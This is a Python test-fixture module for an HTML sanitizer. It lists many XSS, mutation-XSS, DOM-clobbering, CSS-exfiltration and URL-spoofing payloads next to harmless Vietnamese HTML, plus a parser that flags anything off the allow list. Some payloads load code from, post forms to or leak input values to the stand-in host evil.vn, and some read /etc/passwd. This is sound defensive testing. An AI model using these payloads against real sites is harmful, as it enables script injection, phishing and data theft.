"""Hostile and harmless HTML of our own: what a stolen account, a careless paste or a curious mind could send.

Each hostile payload tries to run `alert(1)`, to fetch from `evil.vn`, to change the page around it or to pass for a
part of it; kept by kind, so that a test can name what it lets through.
"""

from html.parser import HTMLParser

from parcai.lib import html

KEY = "0b9d6a3e-1c2d-4e5f-8a9b-0c1d2e3f4a5b"

SCRIPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.vn/x.js></sCrIpT>",
    "<script>alert(1)",
    "<<script>script>alert(1)<</script>/script>",
    "<script\x0c>alert(1)</script>",
    "<scr\x00ipt>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<style><img src='</style><img src=x onerror=alert(1)//'></style>",
    "<title><a href='</title><img src=x onerror=alert(1)>'>x</a></title>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='https://www.youtube.com/embed/x'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "<base href=https://evil.vn/>",
    "<link rel=stylesheet href=https://evil.vn/x.css>",
    "<link rel=import href=https://evil.vn/x.html>",
    "<form action=https://evil.vn><input name=p><button>Đăng nhập</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=image>",
    "<input autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>x",
    "<frameset onload=alert(1)><frame></frameset>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<portal src=https://evil.vn></portal>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><p>&y;</p>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p is=x-evil>x</p>",
]
HANDLERS = [
    f"<p {name}=alert(1)>x</p>"
    for name in (
        "onclick onerror onload onmouseover onfocus onblur onanimationstart ontransitionend onpointerdown onbeforeinput "
        "onauxclick oncopy onpaste onwheel ontoggle ONCLICK oNcLiCk on\x0aclick onfocusin onscroll onhashchange onmessage"
    ).split(" ")
]
LINKS = [
    f'<a href="{address}">x</a>'
    for address in (
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "\x01javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "java&#10;script:alert(1)",
        "&#106;avascript:alert(1)",
        "&#x6A;avascript&colon;alert(1)",
        "javascript&#58;alert(1)",
        "vbscript:msgbox(1)",
        "livescript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD4=",
        "data:image/svg+xml,<svg onload=alert(1)>",
        "file:///etc/passwd",
        "blob:https://x.vn/1",
        "filesystem:https://x.vn/1",
        "view-source:https://x.vn",
        "about:blank",
        "ftp://x.vn/",
        "//evil.vn/x",
        "/\\evil.vn/x",
        "\\\\evil.vn\\x",
        "https:\\\\evil.vn",
        "jav%61script:alert(1)",
        "feed:javascript:alert(1)",
        "intent://x#Intent;scheme=javascript;end",
        "tel:0912\x00javascript:alert(1)",
        "javascript://x.vn/%0aalert(1)",
    )
]
IMAGES = [
    f"<img src={address} alt=x>"
    for address in (
        "x onerror=alert(1)",
        "javascript:alert(1)",
        "https://evil.vn/pixel.gif",
        "//evil.vn/pixel.gif",
        "data:image/png;base64,iVBORw0KGgo=",
        "/tep/anh/../../quan-tri/",
        "/media/secret.png",
        f"/tep/anh/{KEY}-480.webp?x=1",
        f"/tep/anh/{KEY}-480.webp#x",
        f"https://evil.vn/tep/anh/{KEY}-480.webp",
        f"/tep/anh/{KEY.upper()}.svg",
    )
]
ATTRIBUTES = [
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<p class='button button--danger'>x</p>",
    "<p id=noi-dung-chinh>x</p>",
    "<a name=forms href=/x>x</a>",
    "<a href=/x target=_blank>x</a>",
    "<a href=/x ping=https://evil.vn>x</a>",
    "<a href=/x download>x</a>",
    "<p hx-get=/quan-tri/ hx-trigger=load>x</p>",
    "<p data-copy=x>x</p>",
    "<p v-html=x x-data=y @click=z :src=q>x</p>",
    "<p contenteditable autofocus tabindex=1 accesskey=x>x</p>",
    "<td background=javascript:alert(1)>x</td>",
    "<table background=javascript:alert(1)><tr><td width=expression(1)>x</table>",
    "<ol start=javascript:1><li>x</ol>",
    "<th scope='x onclick=1'>x</th>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<q cite=javascript:alert(1)>x</q>",
    "<img srcset='https://evil.vn/x 1x'>",
    "<p slot=x part=y nonce=z>x</p>",
]
MUTATIONS = [
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mi><mglyph><svg><mi><style><a title='</style><img src=x onerror=alert(1)>'>",
    "<math><mtext><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'></svg>",
    "<svg><title><style><img title='</style></title></svg><img src=x onerror=alert(1)>'>",
    "<svg><desc><noscript><p id='</noscript><img src=x onerror=alert(1)>'></desc></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form id=a><div></form><form><math><mtext></form><form><mglyph><style><img title='</style><img src onerror=alert(1)>'>",
    "<table><caption><svg><style><p title='</style></svg></caption></table><img src=x onerror=alert(1)>'>",
    "<select><style><option title='</style></select><img src=x onerror=alert(1)>'></select>",
    "<select><keygen><img src=x onerror=alert(1)></select>",
    "<template><template></template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'></noframes>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<a href=/x title='`<img src=x onerror=alert(1)>`'>x</a>",
    "<abbr title='&lt;/abbr&gt;&lt;img src=x onerror=alert(1)&gt;'>x</abbr>",
    "<abbr title='<h2><img src=x onerror=alert(1)></h2>'>x</abbr>",
    "<abbr title='</table><table><th><img src=x onerror=alert(1)>'>x</abbr>",
    "<abbr title='<p><a href=&quot;https://youtu.be/dQw4w9WgXcQ&quot;>x</a></p>'>x</abbr>",
    "<p title='a--!><img src=x onerror=alert(1)>'><!-->",
    "<b><a href=/1><p><a href=/2 onclick=alert(1)>x</b></a>",
    "<table><a href=/x><tr><a onclick=alert(1)>x",
    "<nobr><nobr onclick=alert(1)>x<p></nobr>",
    "<svg><font color=x><p onclick=alert(1)>x</svg>",
    "<math><semantics><annotation-xml encoding=application/xhtml+xml><script>alert(1)</script></semantics></math>",
    "<ruby><rtc><rp><img src=x onerror=alert(1)></ruby>",
]
FRAMES = [
    "<iframe srcdoc='&lt;img src=x onerror=alert(1)&gt;'></iframe>",
    "<iframe/src='data:text/html,<script>alert(1)</script>'>",
    "<iframe src=https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?rel=0 allow=camera></iframe>",
    "<iframe src=//evil.vn/ sandbox='allow-scripts allow-same-origin'></iframe>",
    "<frame src=javascript:alert(1)>",
    "<fencedframe src=https://evil.vn></fencedframe>",
    "<object type=text/html data=https://evil.vn/></object>",
    "<object><param name=movie value=https://evil.vn/x.swf></object>",
    "<embed type=image/svg+xml src=data:image/svg+xml,x>",
    "<meta charset=utf-7><p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>",
    "<meta name=referrer content=unsafe-url>",
    "<base target=_blank><a href=x>x</a>",
    "<link rel=prefetch href=https://evil.vn/x>",
    "<link rel=dns-prefetch href=//evil.vn>",
    "<a href=/x><base href=//evil.vn></a>",
]
STYLES = [
    "<style>@import 'https://evil.vn/x.css';</style>",
    "<style>*{background:url(//evil.vn/x)}</style>",
    "<style>body{display:none}</style>",
    "<style>input[value^=a]{background:url(//evil.vn/a)}</style>",
    "<p style='background-image:url(https://evil.vn/x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='behavior:url(#default#time2)'>x</p>",
    "<p style='-moz-binding:url(//evil.vn/x#y)'>x</p>",
    "<p style='font:\\0069nherit;position:fixed;top:0;left:0;width:100vw;height:100vh'>x</p>",
    "<font style='content:url(//evil.vn/x)' face='x onload=alert(1)'>x</font>",
    "<p class=officialbar id=dau-trang>Đăng nhập lại</p>",
    "<figure class=video><a class=video__link data-embed=https://evil.vn href=/x>x</a></figure>",
    "<div class=summary role=alert tabindex=0>Lỗi</div>",
]
CLOBBERING = [
    "<a id=csrfmiddlewaretoken name=csrfmiddlewaretoken href=/x>x</a>",
    "<img name=querySelector alt=x>",
    "<form name=body><input name=firstChild></form>",
    "<a id=CKEDITOR><a id=CKEDITOR name=config href='x'>x</a>",
    "<a id=defaultView name=alert href=tel:1>x</a>",
    "<input form=x name=_approve value=1>",
    "<button form=article_form name=_publish_in_emergency>x</button>",
    "<object name=documentElement></object>",
    "<p itemscope itemid=https://evil.vn itemprop=x>x</p>",
    "<label for=id_body>x</label>",
    "<output form=article_form>x</output>",
]
FRAMEWORKS = [
    "<p x-data x-init='alert(1)'>x</p>",
    "<p x-on:click.window=alert(1) x-html=y>x</p>",
    "<p ng-app ng-csp ng-focus=$event.view.alert(1)>{{constructor.constructor('alert(1)')()}}</p>",
    "<p hx-on:load=alert(1) hx-get=//evil.vn hx-trigger=load>x</p>",
    "<p data-hx-get=//evil.vn data-hx-trigger=load>x</p>",
    "<p v-on:click=alert(1) v-bind:src=x v-html=y>x</p>",
    "<p @click=alert(1) :href=x #slot>x</p>",
    "<p data-turbo-frame=x data-controller=evil data-action='click->evil#run'>x</p>",
    "<p data-toggle=tooltip data-html=true title='<img src=x onerror=alert(1)>'>x</p>",
    "<p data-print data-once data-share=//evil.vn>x</p>",
    "<p _='on load call alert(1)'>x</p>",
    "<p up-target=body up-href=//evil.vn>x</p>",
    "<p wire:click=x data-bind='text: alert(1)'>x</p>",
]
ODD = [
    "<img src=x onerror=alert(1)",
    '<img src="x" onerror="alert(1)',
    '<p title="<img src=x onerror=alert(1)>',
    '<a href="/x"onclick="alert(1)">x</a>',
    "<img/src=x/onerror=alert(1)>",
    "<img\x0bsrc=x\x0bonerror=alert(1)>",
    "<img src=x onerror\x00=alert(1)>",
    "<\x00img src=x onerror=alert(1)>",
    "<im\x00g src=x onerror=alert(1)>",
    "\ufeff<script>alert(1)</script>",
    "<scri\u200bpt>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "<img src=x oneſſor=alert(1) oNerRor=alert(1)>",
    "\u202e<script>alert(1)</script>\u202c",
    "<a href='https://evil.vn'>https://\u202envug.vocgnouhcid</a>",
    "＜script＞alert(1)＜/script＞<script>alert(1)</script>",
    "¼script¾alert(1)¼/script¾<svg onload=alert(1)>",
    "<!-- <p> --><img src=x onerror=alert(1)>--><!--",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![if !supportLists]><script>alert(1)</script><![endif]>",
    "<![CDATA[<p>]]><img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><img src=x onerror=alert(1)>",
    "<?xml-stylesheet href='javascript:alert(1)'?><p>x</p>",
    "<% alert(1) %><img src=x onerror=alert(1)>",
    "</br onclick=alert(1)></p onclick=alert(1)>",
    "</script><script>alert(1)</script>",
    "</div></main></body></html><script>alert(1)</script>",
    "<img src=x" + " " * 5_000 + "onerror=alert(1)>",
    "<p " + "a" * 5_000 + "=x onclick=alert(1)>x</p>",
    "<b>" * 55 + "<img src=x onerror=alert(1)>" + "</b>" * 55,
    "<blockquote>" * 300 + "<script>alert(1)</script>",
    "<svg>" * 150 + "<script>alert(1)</script>" + "</svg>" * 150,
    "&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(1)</script>",
    "<a href='&#0;javascript:alert(1)'>x</a>",
    "<img src=&#x22;x&#x22; onerror=&#97;lert(1)>",
]
PASTED = [
    "<p class=MsoListParagraph style='mso-list:l0 level1 lfo1' onclick=alert(1)>x</p>",
    "<p class=MsoNormal><o:p onclick=alert(1)>x</o:p><img src=x onerror=alert(1)></p>",
    "<p style='mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'><img src=x onerror=alert(1)></span><![endif]>x",
    "<xml><o:p><script>alert(1)</script></xml><img src=x onerror=alert(1)>",
    "<o:p><style></o:p><img title='</style><img src=x onerror=alert(1)>'>",
    "<v:shape id=x style='behavior:url(#default#VML)'><v:imagedata src='https://evil.vn/x'/></v:shape>",
    "<div style='mso-element:header' onmouseover=alert(1)>x</div>",
    "<span style='font-weight:bold' onclick=alert(1)>x</span>",
    "<b style='font-weight:normal' id=docs-internal-guid-1 onfocus=alert(1)>x</b>",
    "<h1 title='\"><img src=x onerror=alert(1)>' class='MsoTitle'>x</h1>",
    "<h1 title=&quot;&gt;&lt;img&#32;src=x&#32;onerror=alert(1)&gt; class=MsoTitle>x</h1>",
    "<p class=MsoNormal title='</p><script>alert(1)</script>'>x</p>",
    "<img class=MsoPicture src='file:///C:/Users/x/clip_image001.png' alt=x>",
    "<a style='mso-footnote-id:ftn1' href='javascript:alert(1)' name=_ftnref1>[1]</a>",
    "<font face='x' color=\"'><script>alert(1)</script>\">x</font>",
]
VIDEOS = [
    f'<p><a href="{address}">Phim</a></p>'
    for address in (
        "https://youtube.com.evil.vn/watch?v=dQw4w9WgXcQ",
        "https://youtube.com@evil.vn/watch?v=dQw4w9WgXcQ",
        "https://www.youtube.com:x@evil.vn/watch?v=dQw4w9WgXcQ",
        "https://evil.vn/www.youtube.com/watch?v=dQw4w9WgXcQ",
        "https://evil.vn/?u=https://youtu.be/dQw4w9WgXcQ",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&quot; onload=&quot;alert(1)",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ<script>alert(1)</script>",
        "https://www.youtube.com/watch?v=javascript:",
        "https://www.youtube.com/embed/dQw4w9WgXcQ/../../evil",
        "https://www.youtube.com/embed/..%2f..%2fevil.vn",
        "https://www.youtube.com/redirect?q=https://evil.vn&v=dQw4w9WgXcQ",
        "https://уоutube.com/watch?v=dQw4w9WgXcQ",
        "javascript:alert(1)//youtu.be/dQw4w9WgXcQ",
        "//youtu.be/dQw4w9WgXcQ",
        "https://vimeo.com.evil.vn/76979871",
        "https://vimeo.com/76979871;javascript:alert(1)",
        "https://player.vimeo.com/video/76979871/../../evil",
        "data:text/html,https://youtu.be/dQw4w9WgXcQ",
    )
]
ADDRESSES = [
    f"<img src='{address}' alt=x>"
    for address in (
        f"/tep/anh/../anh/{KEY}-480.webp",
        f"/tep/anh/./{KEY}-480.webp",
        f"/tep/anh//{KEY}-480.webp",
        f"/tep//anh/{KEY}-480.webp",
        f"/tep/anh/%2e%2e/{KEY}-480.webp",
        f"/tep/anh/{KEY}-480.webp/../../../dang-xuat/",
        f"\\tep\\anh\\{KEY}-480.webp",
        f"/\\evil.vn/tep/anh/{KEY}-480.webp",
        f" /tep/anh/{KEY}-480.webp",
        f"/tep/anh/{KEY}-480.webp\n",
        f"/tep/anh/{KEY}-480.webp%00.svg",
        f"http://127.0.0.1/tep/anh/{KEY}-480.webp",
        f"//evil.vn/tep/anh/{KEY}-480.webp",
        "/tai-khoan/dang-xuat/",
        "cid:anh@evil.vn",
        "blob:https://evil.vn/1",
    )
]
KINDS = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "links": LINKS,
    "images": IMAGES,
    "attributes": ATTRIBUTES,
    "mutations": MUTATIONS,
    "frames": FRAMES,
    "styles": STYLES,
    "clobbering": CLOBBERING,
    "frameworks": FRAMEWORKS,
    "odd": ODD,
    "pasted": PASTED,
    "videos": VIDEOS,
    "addresses": ADDRESSES,
}
HOSTILE = [payload for payloads in KINDS.values() for payload in payloads]

HARMLESS = [
    "<p>Chào ông, bà.</p>",
    "<h2>Hồ sơ gồm những gì</h2>",
    "<h3>Bước 1</h3>",
    "<h4>Lưu ý</h4>",
    "<ul><li>Đơn</li><li>Bản sao</li></ul>",
    "<ol><li>Một</li><li>Hai</li></ol>",
    '<ol start="3"><li>Ba</li></ol>',
    "<p><strong>Đậm</strong> và <em>nghiêng</em></p>",
    "<p>H<sub>2</sub>O, m<sup>2</sup></p>",
    "<blockquote><p>Trích</p></blockquote>",
    "<table><thead><tr><th>Việc</th></tr></thead><tbody><tr><td>Khai sinh</td></tr></tbody></table>",
    '<table><tbody><tr><th scope="row">A</th><td colspan="2">B</td></tr></tbody></table>',
    "<table><caption>Bảng 1</caption><tbody><tr><td>x</td></tr></tbody></table>",
    '<p><a href="/hoi-dap/" rel="noopener noreferrer nofollow">Hỏi đáp</a></p>',
    '<p><a href="https://dichvucong.gov.vn" rel="noopener noreferrer nofollow">Cổng</a></p>',
    '<p><a href="mailto:a@vidu.vn" rel="noopener noreferrer nofollow">Thư</a></p>',
    '<p><a href="tel:0257000000" rel="noopener noreferrer nofollow">Gọi</a></p>',
    '<p><a href="#muc-1" rel="noopener noreferrer nofollow">Mục 1</a></p>',
    f'<figure><img src="/tep/anh/{KEY}-960.webp" alt="Quầy" width="960" height="540"><figcaption>Quầy</figcaption></figure>',
    "<p>Dòng một<br>Dòng hai</p>",
    "<hr>",
    "<p>5 &lt; 7 &amp; 7 &gt; 5</p>",
    "<p>“Dân hỏi – Thủ trưởng trả lời”</p>",
    '<p><abbr title="Thủ tục hành chính">TTHC</abbr></p>',
    "<p><u>Gạch chân</u> <s>bỏ</s></p>",
    "<pre><code>113/KH-UBND</code></pre>",
    "<dl><dt>Hạn</dt><dd>15 ngày</dd></dl>",
    "<p>Lệ phí: 8.000 đồng (85,39 %)</p>",
    "<p>😀 漢字</p>",
    "<p><q>trích ngắn</q> <cite>Nguồn</cite> <small>nhỏ</small></p>",
    "Chữ trần không thẻ",
    "",
    "<h2>Điều 1. <em>Phạm vi</em></h2><p>Khoản 2 Điều 10.</p>",
    '<p><a href="https://vidu.gov.vn/?a=1&amp;b=2#muc" title="Mở “văn bản”" rel="noopener noreferrer nofollow">Văn bản</a></p>',
    '<p><a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ" rel="noopener noreferrer nofollow">Phim</a></p>',
    '<p><a href="/tra-cuu/?ma=PY26-7KQ4" rel="noopener noreferrer nofollow">Tra cứu</a></p>',
    "<p>if (a &lt; b &amp;&amp; c &gt; d) alert(1)</p>",
    "<p>Viết &lt;script&gt; vào ô tìm kiếm</p>",
    "<p>javascript:alert(1) là chữ, không phải liên kết</p>",
    "<p>onclick=x, style=y, class=z</p>",
    "<pre>cột 1    cột 2\ncột 3    cột 4</pre>",
    "<ul><li>Một<ul><li>Hai<ol><li>Ba</li></ol></li></ul></li></ul>",
    '<table><thead><tr><th scope="col">A</th><th scope="col" colspan="2">B</th></tr></thead><tbody><tr><th scope="row" rowspan="2">1</th><td>x</td><td></td></tr></tbody><tfoot><tr><td>cộng</td></tr></tfoot></table>',
    "<blockquote><p>Một</p><p>Hai</p></blockquote><cite>Nguồn</cite>",
    "<p>Nguyễn Văn A – “Trưởng phòng”; điện thoại: (0257) 3.000.113</p>",
    "<p>e\u0301 và é, đ và ð, ước\u200d</p>",
    "<p><b><i><u><s>lồng</s></u></i></b></p>",
    "<p>Một<br><br>Hai</p><hr><p>Ba</p>",
    "<figure><blockquote><p>Trích</p></blockquote><figcaption>Ai nói</figcaption></figure>",
]


class Judge(HTMLParser):
    """Reads what came out and collects everything that is not on the allow list."""

    def __init__(self):
        super().__init__()
        self.wrong = []

    def handle_starttag(self, tag, attributes):
        if tag not in html.TAGS:
            self.wrong.append(tag)
        for name, value in attributes:
            allowed = html.ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
            if name not in allowed:
                self.wrong.append((tag, name))
            if name == "href" and not (html.OWN_PAGE.fullmatch(value) or html.OUTSIDE.fullmatch(value)):
                self.wrong.append(value)
            if name == "src" and not html.OWN_IMAGE.fullmatch(value):
                self.wrong.append(value)

    def handle_comment(self, data):
        self.wrong.append("comment")


def wrong_in(text: str) -> list:
    judge = Judge()
    judge.feed(text)
    judge.close()
    return judge.wrong
